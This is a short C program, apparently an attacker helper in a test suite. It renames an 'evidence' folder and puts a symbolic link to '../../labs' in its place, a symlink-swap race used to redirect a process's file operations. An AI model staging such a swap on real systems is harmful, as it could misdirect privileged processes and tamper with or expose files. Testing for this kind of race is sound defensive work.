/* Puts a link in the place of the evidence folder. */
#include "attack.h"

int main(void)
{
	say_ready();
	rename(EVIDENCE, EVIDENCE ".moved");
	ignore(symlink("../../labs", EVIDENCE));
	return 0;
}
